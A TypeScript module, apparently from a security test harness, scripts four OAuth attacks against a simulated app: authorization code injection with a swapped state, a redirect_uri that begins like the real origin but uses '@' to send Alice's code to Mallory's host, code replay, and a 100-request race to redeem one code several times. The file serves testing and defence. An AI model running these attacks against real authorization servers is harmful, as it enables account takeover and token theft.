import { setTimeout as delay } from "node:timers/promises";
import { bearer, codeFor, contactsWith, registerApp, tokensIn } from "./app.ts";
import type { Attack } from "./scene.ts";
import { sendVolley } from "./volley.ts";
import { beginSharing, friendsOn, walk } from "./walk.ts";

/** V1: Alice's code, pasted into Mallory's own journey. */
export const pasteCode: Attack = async ({ origins, alice, author }) => {
  const callback = `${origins.quillpost}/callback`;
  const { answer } = await beginSharing(alice);
  const { leavesFor } = await walk(alice.browser, answer, { stopBefore: callback });
  const seen = new URL(leavesFor!);

  const own = new URL((await beginSharing(author)).answer.leavesFor!).searchParams;
  seen.searchParams.set("state", own.get("state")!);
  const { page } = await author.browser.open(seen.href);
  return friendsOn(page, "a friend of Alice's");
};

/** V2: a link to Fernmail whose redirect URI only begins like Quillpost's. */
export const suffixRedirectUri: Attack = async ({ origins, mallory, alice }) => {
  const question = new URL((await beginSharing(alice)).answer.leavesFor!);
  const host = new URL(mallory.origin).host;
  question.searchParams.set("redirect_uri", `${origins.quillpost}@${host}/collect`);
  await walk(alice.browser, await alice.browser.open(question.href));
  return mallory.desk.loot;
};

/** V3: the token request of an app, word for word, once more. */
export const replayCode: Attack = async (scene) => {
  const app = await registerApp(scene, { name: "Notes" });
  const request = app.trade(await codeFor(scene, app));
  tokensIn(await app.ask(request));
  const again = await app.ask(request);
  return again.status === 200 ? contactsWith(scene, bearer(tokensIn(again).access_token)) : [];
};

/** Between two rounds: a stage that is flooded leaves checks out. */
const rest = 1_000;

/** V4: the same token request, a hundred times at the same moment; up to five times over. */
export const raceForCode: Attack = async (scene) => {
  const app = await registerApp(scene, { name: "Notes" });
  for (let round = 0; round < 5; round += 1) {
    if (round > 0) await delay(rest);
    const request = app.request(app.trade(await codeFor(scene, app)));
    const statuses = await sendVolley(request, 100);
    const sets = statuses.filter((status) => status === 200).length;
    if (sets > 1) return [{ what: "sets of tokens for one code", value: `${sets}` }];
  }
  return [];
};
